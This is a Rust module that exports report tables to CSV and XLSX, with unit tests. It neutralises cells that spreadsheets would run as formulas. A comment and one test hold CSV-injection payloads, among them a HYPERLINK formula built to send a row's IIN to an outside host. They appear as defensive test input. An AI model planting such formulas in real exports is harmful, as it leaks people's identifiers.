//! Tables as CSV and XLSX: admins here live in Excel.
//!
//! One `Table` feeds both formats, so the CSV and the XLSX of a report cannot disagree.

use std::fmt::Write as _;

use kasip_core::{Lang, Text};

/// A cell: text stays text (IINs keep their leading zeros), counts are numbers.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    /// A share in thousandths: `94.1%` in CSV, a number formatted as a percentage in XLSX.
    PerMille(u64),
}

impl From<&str> for Cell {
    fn from(text: &str) -> Self {
        Self::Text(text.to_owned())
    }
}

impl From<String> for Cell {
    fn from(text: String) -> Self {
        Self::Text(text)
    }
}

impl From<u64> for Cell {
    fn from(number: u64) -> Self {
        Self::Number(number as f64)
    }
}

/// A named table with a header row.
#[derive(Debug, Clone)]
pub struct Table {
    pub name: String,
    pub headers: Vec<String>,
    pub rows: Vec<Vec<Cell>>,
}

impl Table {
    /// A table whose header row is `columns` in `lang`.
    pub fn headed(name: String, lang: Lang, columns: &[Text], rows: Vec<Vec<Cell>>) -> Self {
        Self {
            name,
            headers: columns
                .iter()
                .map(|column| lang.text(*column).to_owned())
                .collect(),
            rows,
        }
    }

    /// `;`-separated with a BOM, so Excel in ru-KZ opens it as columns. A text cell a
    /// spreadsheet would read as a formula is neutralised (see `csv_field`).
    pub fn to_csv(&self) -> String {
        let mut csv = String::from("\u{feff}");
        csv.push_str(&self.headers.join(";"));
        csv.push('\n');
        for row in &self.rows {
            let fields: Vec<String> = row
                .iter()
                .map(|cell| match cell {
                    Cell::Number(number) => number.to_string(),
                    Cell::PerMille(per_mille) => kasip_core::per_mille_text(Some(*per_mille)),
                    Cell::Text(text) => csv_field(text),
                })
                .collect();
            let _ = writeln!(csv, "{}", fields.join(";"));
        }
        csv
    }

    /// One worksheet named after the table, header row in bold.
    pub fn to_xlsx(&self) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
        let mut workbook = rust_xlsxwriter::Workbook::new();
        let bold = rust_xlsxwriter::Format::new().set_bold();
        let percent = rust_xlsxwriter::Format::new().set_num_format("0.0%");
        let worksheet = workbook.add_worksheet();
        // Sheet names: at most 31 characters, none of []:*?/\
        let sheet_name: String = self
            .name
            .chars()
            .filter(|character| !"[]:*?/\\".contains(*character))
            .take(31)
            .collect();
        worksheet.set_name(if sheet_name.is_empty() {
            "data"
        } else {
            &sheet_name
        })?;
        for (column, header) in self.headers.iter().enumerate() {
            worksheet.write_string_with_format(0, column as u16, header.as_str(), &bold)?;
        }
        for (index, row) in self.rows.iter().enumerate() {
            let row_number = index as u32 + 1;
            for (column, cell) in row.iter().enumerate() {
                match cell {
                    Cell::Text(text) => worksheet.write_string(row_number, column as u16, text)?,
                    Cell::Number(number) => {
                        worksheet.write_number(row_number, column as u16, *number)?
                    }
                    Cell::PerMille(per_mille) => worksheet.write_number_with_format(
                        row_number,
                        column as u16,
                        *per_mille as f64 / 1000.0,
                        &percent,
                    )?,
                };
            }
        }
        // Columns as wide as their widest cell: an accountant opens it and reads.
        worksheet.autofit();
        worksheet.set_freeze_panes(1, 0)?;
        workbook.save_to_buffer()
    }
}

/// Characters that make Excel and LibreOffice read a cell as a formula (OWASP's CSV
/// injection list): a name like `=HYPERLINK("http://…?"&A2)` would send a row's IIN away.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// One text cell: a leading `'` makes a would-be formula plain text (both spreadsheets
/// show the rest as typed), then quoting where `;`, `"` or a line break needs it. XLSX
/// needs neither: its cells are typed strings.
fn csv_field(text: &str) -> String {
    let neutral = if text.starts_with(FORMULA_STARTS) {
        format!("'{text}")
    } else {
        text.to_owned()
    };
    if neutral.contains([';', '"', '\n', '\r']) {
        format!("\"{}\"", neutral.replace('"', "\"\""))
    } else {
        neutral
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample() -> Table {
        Table {
            name: "coverage 2026-11".into(),
            headers: vec!["iin".into(), "name".into(), "present".into()],
            rows: vec![
                vec!["060315500016".into(), "Әлі; \"Қ\"".into(), 3u64.into()],
                vec!["060315600022".into(), "Дана".into(), 0u64.into()],
            ],
        }
    }

    #[test]
    fn shares_are_percentages_in_both_formats() {
        let table = Table {
            name: "coverage".into(),
            headers: vec!["scope".into(), "coverage".into()],
            rows: vec![vec!["ПО-21".into(), Cell::PerMille(941)]],
        };
        assert_eq!(table.to_csv(), "\u{feff}scope;coverage\nПО-21;94.1%\n");
        let xlsx = table.to_xlsx().expect("xlsx");
        // The sheet holds the number 0.941 under a percentage format.
        let sheet = zip_entry(&xlsx, "xl/worksheets/sheet1.xml");
        assert!(sheet.contains("<v>0.941</v>"), "{sheet}");
        let styles = zip_entry(&xlsx, "xl/styles.xml");
        assert!(styles.contains("formatCode=\"0.0%\""), "{styles}");
    }

    #[test]
    fn csv_quotes_what_needs_quoting_and_keeps_leading_zeros() {
        assert_eq!(
            sample().to_csv(),
            "\u{feff}iin;name;present\n060315500016;\"Әлі; \"\"Қ\"\"\";3\n060315600022;Дана;0\n"
        );
    }

    #[test]
    fn csv_cells_a_spreadsheet_would_evaluate_are_plain_text() {
        let table = Table {
            name: "hostile".into(),
            headers: vec!["name".into(), "count".into()],
            rows: [
                "=HYPERLINK(\"http://x/?\"&A2;\"a\")",
                "+1",
                "-2+3",
                "@SUM(A1)",
                "\t=1",
                "\r=1",
                "a=1",
            ]
            .into_iter()
            .map(|name| vec![name.into(), Cell::Number(-1.0)])
            .collect(),
        };
        assert_eq!(
            table.to_csv(),
            "\u{feff}name;count\n\
             \"'=HYPERLINK(\"\"http://x/?\"\"&A2;\"\"a\"\")\";-1\n\
             '+1;-1\n'-2+3;-1\n'@SUM(A1);-1\n'\t=1;-1\n\"'\r=1\";-1\na=1;-1\n"
        );
    }

    /// One member of a ZIP archive, read by Python's zipfile (already a test tool here).
    fn zip_entry(archive: &[u8], member: &str) -> String {
        use std::io::Write;
        let mut python = std::process::Command::new("python3")
            .args([
                "-c",
                "import sys, zipfile, io; sys.stdout.write(zipfile.ZipFile(io.BytesIO(sys.stdin.buffer.read())).read(sys.argv[1]).decode())",
                member,
            ])
            .stdin(std::process::Stdio::piped())
            .stdout(std::process::Stdio::piped())
            .spawn()
            .expect("python3");
        python
            .stdin
            .take()
            .expect("stdin")
            .write_all(archive)
            .expect("write");
        let output = python.wait_with_output().expect("python3");
        assert!(output.status.success(), "no {member} in the archive");
        String::from_utf8(output.stdout).expect("utf-8")
    }

    #[test]
    fn xlsx_is_a_zip_with_a_worksheet() {
        let bytes = sample().to_xlsx().expect("xlsx");
        assert_eq!(&bytes[..2], b"PK", "an XLSX file is a ZIP archive");
        let text = String::from_utf8_lossy(&bytes);
        assert!(text.contains("xl/worksheets/sheet1.xml"));
    }
}
